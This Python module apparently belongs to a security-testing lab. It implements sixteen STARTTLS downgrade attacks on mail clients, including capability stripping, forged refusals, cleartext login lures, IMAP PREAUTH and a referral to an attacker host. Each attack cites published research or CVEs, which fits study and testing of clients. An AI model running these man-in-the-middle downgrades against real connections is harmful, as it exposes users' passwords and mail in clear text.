"""Attacks on the negotiation, N1 to N16: the client is made to believe that there is no TLS here.

They work because the clear text is not authenticated before the handshake (RFC 3207 §6). N9 is not run: `catalogue`.
"""

from typing import ClassVar

from labkit.attacks import speech
from labkit.attacks.actions import Answer, Close, Drop, Replace
from labkit.attacks.vector import Answered, Line, Opening, Record, Vector
from labkit.decode.tls.records import CHANGE_CIPHER_SPEC, HANDSHAKE
from labkit.dialects.base import CLIENT, SERVER
from labkit.dialects.writing import DONE, GO_AHEAD, LATER, ODD, REFUSED, keyword

_STUDY = "Poddebniak et al., Why TLS is better without STARTTLS, USENIX Security 2021"
_AUTODETECT = "Use of TLS and Auto-detect in Email Ecosystems, NDSS 2025"


class StripCapability(Vector):
    """Removes the offer of TLS from the server's list of capabilities."""

    id = "N1"
    needs = ("capabilities",)
    source = "RFC 3207 §6; striptls"

    def on_line(self, line: Line) -> Answered:
        return speech.stripped(line)


class RefuseUpgrade(Vector):
    """Leaves the offer of TLS in place, but answers the command that asks for it with a lasting refusal."""

    id = "N2"
    needs = (REFUSED,)
    source = "striptls"

    def on_line(self, line: Line) -> Answered:
        return Answer(speech.reply(line, REFUSED, "Not possible")) if speech.upgrades(line) else None


class RefuseForNow(Vector):
    """Answers the command that asks for TLS with a refusal that may pass."""

    id = "N3"
    needs = (LATER,)
    source = "striptls"

    def on_line(self, line: Line) -> Answered:
        return Answer(speech.reply(line, LATER, "TLS not available now")) if speech.upgrades(line) else None


class UnexpectedSuccess(Vector):
    """Answers the command that asks for TLS with a success that is not the go-ahead, and carries on in clear text."""

    id = "N4"
    needs = (ODD,)
    source = "striptls; CVE-2021-32066"

    def on_line(self, line: Line) -> Answered:
        return Answer(speech.reply(line, ODD, "Fine")) if speech.upgrades(line) else None


class SilentDrop(Vector):
    """Swallows the command that asks for TLS: the client waits, and may try again without."""

    id = "N5"
    source = "striptls, for IRC"

    def on_line(self, line: Line) -> Answered:
        return Drop() if speech.upgrades(line) else None


class OldDialect(Vector):
    """Makes the server look so old that it knows no capabilities, and therefore no TLS."""

    id = "N6"
    needs = ("older",)
    source = _STUDY

    def on_line(self, line: Line) -> Answered:
        older = line.dialect.writes.older
        if not older:
            return Answer(speech.reply(line, REFUSED, "What is that?")) if speech.asks(line) else None
        return Replace(speech.offering(line, older)) if speech.capabilities(line) is not None else None


class LureIntoLogin(Vector):
    """Removes the offer of TLS, and offers a login in clear text, with the password itself, where there was none."""

    id = "N7"
    needs = ("capabilities", "clear_login")
    source = "striptls; NDSS 2025"
    server: ClassVar = {"auth": "after TLS"}

    def on_line(self, line: Line) -> Answered:
        writes = line.dialect.writes
        if line.sender == CLIENT and writes.user_command and line.title == writes.user_command:
            return Answer(writes.willing(line))  # the real server would refuse it, before the password comes
        offered = speech.capabilities(line)
        if offered is None:
            return None
        gone = {name.upper() for name in (line.dialect.token, *writes.login_names)}
        left = tuple(one for one in offered if keyword(one) not in gone)
        return Replace(speech.offering(line, (*left, *writes.clear_login)))


class Preauth(Vector):
    """Greets with PREAUTH: the client is "logged in" already, STARTTLS comes too late, and what it uploads is in the
    clear.

    The attacker plays the server for the upload, because the real one knows of no login.
    """

    id = "N8"
    needs = ("preauth", "upload")
    source = f"{_STUDY}; CVE-2014-2567, CVE-2020-12398"

    def on_line(self, line: Line) -> Answered:
        writes = line.dialect.writes
        if line.kind == "greeting":
            return Replace(writes.preauth(line.data))
        if line.sender == CLIENT and line.title == writes.upload:
            return Answer(writes.willing(line))
        if line.kind == "message" and (upload := speech.asked(line)):
            return Answer(speech.reply(upload, DONE, f"{writes.upload} completed"))
        return speech.stripped(line)


class Referral(Vector):
    """Sends the client away, before TLS, to a server of the attacker's that has none (RFC 2221).

    Clients of the standard library follow no referral; the victims include one that does. A certificate of the
    attacker's own would not help it: the name that it compares is the attacker's now.
    """

    id = "N10"
    protocols = ("IMAP",)
    source = _STUDY
    lure = 1143

    def on_line(self, line: Line) -> Answered:
        if line.port == self.lure:
            return speech.stripped(line)
        if line.kind == "greeting":
            away = f"* BYE [REFERRAL imap://mallory.lab.test:{self.lure}/] This mailbox has moved\r\n"
            return Replace(away.encode()), Close()
        return None


class EarlyOK(Vector):
    """Sends the OK to STARTTLS before the client asks, by guessing its next tag, and swallows the command itself."""

    id = "N11"
    protocols = ("IMAP",)
    source = "CVE-2026-42246"

    def on_line(self, line: Line) -> Answered:
        command = speech.asked(line)
        if line.kind == "reply" and command is not None and command.title == line.dialect.ask:
            early = line.dialect.writes.replies[GO_AHEAD]("Begin TLS negotiation now", speech.next_tag(line))
            return Replace(line.data + early)
        return Drop() if speech.upgrades(line) else None


class BreakHandshake(Vector):
    """Lets the go-ahead pass, and answers the ClientHello with clear text: will the client try again without TLS?"""

    id = "N12"
    source = f"{_AUTODETECT}, T2"

    def on_record(self, record: Record) -> Answered:
        if record.sender == CLIENT and record.kind == HANDSHAKE:
            return Answer(b"This server has no TLS today.\r\n"), Close()
        return None


class BreakFirstRecord(Vector):
    """Lets the handshake pass, and changes one bit of the first thing that the client says inside."""

    id = "N13"
    source = f"{_AUTODETECT}, T4"

    def on_record(self, record: Record) -> Answered:
        mine = [earlier.kind for earlier in record.earlier if earlier.sender == CLIENT]
        if record.sender != CLIENT or CHANGE_CIPHER_SPEC not in mine:
            return None
        behind = len(mine) - mine.index(CHANGE_CIPHER_SPEC) - 1  # Finished comes first
        return Replace(record.data[:-1] + bytes([record.data[-1] ^ 1])) if behind == 1 else None


class BlockImplicit(StripCapability):
    """Breaks off every connection to the port with implicit TLS, and removes the offer on the other: a client that
    takes what works ends up in clear text."""

    id = "N14"
    source = _AUTODETECT

    def on_open(self, opening: Opening) -> Answered:
        return Close(reset=True) if opening.implicit else None


class Mangle(Vector):
    """Writes over the offer of TLS, and over the command, with X: lengths stay, as some firewalls do it."""

    id = "N15"
    protocols = ("SMTP",)
    source = "Cisco PIX, fixup protocol smtp"

    def on_line(self, line: Line) -> Answered:
        token = line.dialect.token.encode()
        if speech.upgrades(line) or (speech.capabilities(line) is not None and token in line.data):
            return Replace(line.data.replace(token, b"X" * len(token)))
        return None


class CornerCase(Vector):
    """Only puts the client into a corner in which some forget that TLS was required: a greeting that makes no sense, a
    list of capabilities that is refused; in SMTP it is enough that there is no login."""

    id = "N16"
    needs = ("corner",)
    source = "CVE-2020-28896 (Mutt), CVE-2021-22946 (curl), CVE-2021-38373 (KMail)"

    def on_line(self, line: Line) -> Answered:
        data = line.dialect.writes.corner(line)
        if data is None:
            return None
        return Replace(data) if line.sender == SERVER else Answer(data)
